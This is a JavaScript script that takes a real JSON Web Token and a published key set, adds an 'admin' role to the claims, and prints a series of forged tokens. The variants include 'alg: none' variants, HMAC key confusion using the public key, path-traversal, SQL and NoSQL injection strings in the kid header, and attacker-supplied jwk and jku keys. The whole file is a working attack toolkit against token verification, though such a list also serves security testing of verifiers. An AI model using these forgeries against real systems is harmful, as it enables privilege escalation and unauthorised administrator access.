// Prints tokens that pretend to be an administrator's, one in a line after what is wrong with it.
import {
  SignJWT, UnsecuredJWT, base64url, decodeJwt, decodeProtectedHeader, exportJWK, exportSPKI, generateKeyPair, importJWK,
} from 'jose';

const [keys, token] = process.argv.slice(2);
const published = (await (await fetch(keys)).json()).keys;
const claims = { ...decodeJwt(token), roles: ['admin'] };
const { kid } = decodeProtectedHeader(token);
const ours = published.find((key) => key.kid === kid);
const own = await generateKeyPair('EdDSA', { crv: 'Ed25519', extractable: true });
const ownJwk = { ...(await exportJWK(own.publicKey)), kid: 'own' };
const header = { alg: 'EdDSA', typ: 'at+jwt', kid };

const print = (what, forged) => console.log(`${what}\t${forged}`);
const signed = (changes, key = own.privateKey, options = undefined) =>
  new SignJWT(claims).setProtectedHeader({ ...header, ...changes }).sign(key, options);
const bare = (changes) =>
  `${base64url.encode(JSON.stringify({ ...header, ...changes }))}.${base64url.encode(JSON.stringify(claims))}.`;

print('unsecured by the library', new UnsecuredJWT(claims).encode());
for (const alg of ['none', 'None', 'NONE', 'nOnE', '']) print(`alg ${alg}`, bare({ alg }));

const pem = await exportSPKI(await importJWK(ours, 'EdDSA', { extractable: true }));
for (const [what, secret] of [
  ['x', base64url.decode(ours.x)],
  ['x as text', new TextEncoder().encode(ours.x)],
  ['the PEM', new TextEncoder().encode(pem)],
  ['the PEM without its last line end', new TextEncoder().encode(pem.trimEnd())],
  ['the JWK', new TextEncoder().encode(JSON.stringify(ours))],
]) {
  for (const alg of ['HS256', 'HS512']) print(`${alg} with ${what}`, await signed({ alg }, secret));
}

print('our kid', await signed({}));
print('another kid', await signed({ kid: 'own' }));
print('no kid', await signed({ kid: undefined }));
for (const kid of ['../../../../dev/null', '/dev/null', 'file:///dev/null', 'http://127.0.0.1:1/jwks.json', "' OR 1=1 --", '{"$ne":1}', '']) {
  print(`kid ${kid}`, await signed({ kid }));
}
print('a key in the header', await signed({ jwk: ownJwk }));
print('a key in the header, by its own kid', await signed({ jwk: ownJwk, kid: 'own' }));
for (const jku of ['http://127.0.0.1:1/jwks.json', `${keys}?own`]) print(`jku ${jku}`, await signed({ jku, kid: 'own' }));
print('x5u', await signed({ x5u: 'http://127.0.0.1:1/chain.pem', kid: 'own' }));
print('x5c', await signed({ x5c: [base64url.encode('no certificate')], kid: 'own' }));
print('crit', await signed({ crit: ['urn:example:understood'], 'urn:example:understood': true }, own.privateKey, {
  crit: { 'urn:example:understood': true },
}));
for (const alg of ['ES256', 'RS256', 'PS256']) {
  const other = await generateKeyPair(alg);
  print(alg, await signed({ alg }, other.privateKey));
}
const [head, , signature] = token.split('.');
print('another payload under the signature', `${head}.${base64url.encode(JSON.stringify(claims))}.${signature}`);
